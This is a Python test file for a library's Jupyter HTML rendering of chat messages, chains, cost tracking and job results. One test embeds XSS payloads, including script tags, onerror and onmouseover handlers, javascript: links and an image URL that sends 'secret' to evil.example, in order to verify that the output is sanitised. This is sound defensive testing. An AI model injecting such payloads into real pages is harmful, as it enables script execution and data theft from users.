"""What Jupyter shows of messages, chains and spending."""

from __future__ import annotations

import re
from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from modelwire import (
    AIMessage,
    ChatPromptTemplate,
    HumanMessage,
    RunnableLambda,
    RunnableParallel,
    ToolMessage,
    notebooks,
)
from modelwire.jobs import track
from modelwire.jobs.job_result import JobResult
from modelwire.testing import FakeListChatModel


def shown(value: Any) -> str:
    """Return the HTML that a notebook puts in its page; every tag of it is closed."""
    html: str = value._repr_html_()
    closed = re.sub(r"<(img|br|hr)([^>]*?)/?>", r"<\1\2/>", html)
    ElementTree.fromstring(f"<div>{closed}</div>")
    return html


def test_an_answer_shows_its_reasoning_folded_its_text_and_its_calls_as_a_table() -> None:
    message = AIMessage(
        [{"type": "reasoning", "reasoning": "if a < b"}, {"type": "text", "text": "It **rains**."}],
        tool_calls=[{"name": "weather", "args": {"city": "A<B\nC"}, "id": "1"}],
        usage_metadata={"input_tokens": 1200, "output_tokens": 3, "total_tokens": 1203},
    )
    html = shown(message)
    assert re.search(
        r"<details><summary>Reasoning</summary><div[^>]*>if a &lt; b</div></details>", html
    )
    assert "<p>It <strong>rains</strong>.</p>" in html
    assert re.search(r"<td[^>]*>weather</td><td[^>]*>\{&quot;city&quot;: &quot;A&lt;B", html)
    assert "1,200 tokens in, 3 out" in html


HOSTILE = """<script>alert(1)</script> <img src=x onerror=alert(1)> <a href="javascript:alert(1)">a</a>
[link](javascript:alert(1)) ![pixel](https://evil.example/?q=secret) [ref]: <b>

<div onmouseover=alert(1)>

`code <script>` </details></div></td>"""


@pytest.mark.parametrize("plain", [True, False])
def test_what_a_model_wrote_is_shown_and_never_run_or_fetched(
    monkeypatch: pytest.MonkeyPatch, *, plain: bool
) -> None:
    if plain:
        monkeypatch.setattr(notebooks, "_markdown", lambda: None)
    message = AIMessage(
        [
            {"type": "reasoning", "reasoning": HOSTILE},
            {"type": "text", "text": HOSTILE},
            {"type": "image", "url": 'https://evil.example/"><script>'},
            {"type": "image", "url": "javascript:alert(1)"},
            {"type": "image", "base64": '"><script>', "mime_type": "image/png"},
            {"type": "file", "base64": "aGk=", "mime_type": "<script>"},
        ],
        name="<script>",
        tool_calls=[{"name": "<script>", "args": {"<script>": HOSTILE}, "id": "1"}],
    )
    html = shown(message)
    ours = re.compile("div|small|b|code|details|summary|p|em|i|table|thead|tbody|tr|th|td|img|a")
    assert [tag for tag in re.findall(r"<(\w+)", html) if not ours.fullmatch(tag)] == []
    assert set(re.findall(r"<a [^>]*>", html)) <= {'<a href="https://evil.example/?q=secret">'}
    assert not re.search(r"<[^>]* on\w+=", html)
    assert re.findall(r'<img src="([^"]{10})', html) == ["data:image"]


def test_images_are_shown_from_their_data_and_never_fetched() -> None:
    own = {"type": "image", "base64": "aGk=", "mime_type": "image/png"}
    html = shown(HumanMessage([own, {"type": "image", "url": "https://example.org/a.png"}]))
    assert '<img src="data:image/png;base64,aGk=" ' in html
    assert html.count("<img") == 1
    assert "(image: https://example.org/a.png)" in html


def test_every_kind_of_message_is_shown() -> None:
    assert shown(HumanMessage("hi")) == "<div><small><b>human</b></small><p>hi</p>\n</div>"
    assert "<b>tool</b> <code>add</code>" in shown(ToolMessage("12", tool_call_id="1", name="add"))
    assert shown(AIMessage("")) == "<div><small><b>ai</b></small></div>"


def test_a_chain_is_its_graph() -> None:
    chain = ChatPromptTemplate.from_template("{x}") | RunnableLambda(lambda x: x)
    for one in (chain, RunnableParallel(a=chain, b=chain)):
        shown = one._repr_markdown_()
        assert shown.startswith("```mermaid\n")
        assert "graph TD" in shown
        assert shown.endswith("\n```")


def test_what_was_spent_is_a_table() -> None:
    with track() as spent:
        FakeListChatModel(responses=["one"]).invoke("hi")
    html = shown(spent)
    assert re.findall(r"<th[^>]*>(\w+)</th>", html) == ["model", "calls", "input", "output", "USD"]
    assert "1 calls, 0 errors" in html


def result(**changed: Any) -> JobResult:
    values: dict[str, Any] = {
        "output": Path("answers.csv"),
        "job_dir": Path("a.job"),
        "job_id": "1",
        "complete": True,
        "stopped": None,
        "rows": 130_000,
        "failed": 2,
        "asked": 9,
        "same": 0,
        "cached": 0,
        "cut": 0,
        "refused": 0,
        "input_tokens": 5,
        "output_tokens": 6,
        "cost": Decimal("1.5"),
        "unpriced": 0,
        "saved": Decimal(0),
        "elapsed_s": 3.0,
    }
    return JobResult(**values | changed)


def test_a_jobs_result_shows_its_first_rows_and_its_numbers(tmp_path: Path) -> None:
    html = shown(result(output=tmp_path / "gone.csv"))
    assert re.search(r"<td[^>]*>rows</td><td[^>]*>130,000</td>", html)
    assert "gone.csv" in html
    table = [{"word": f"<b>{number}", "answer": None} for number in range(9)]
    html = shown(result(output=None, table=table))
    assert re.findall(r"<td[^>]*>&lt;b&gt;(\d)</td>", html) == ["0", "1", "2", "3", "4"]
    assert "<th" in html
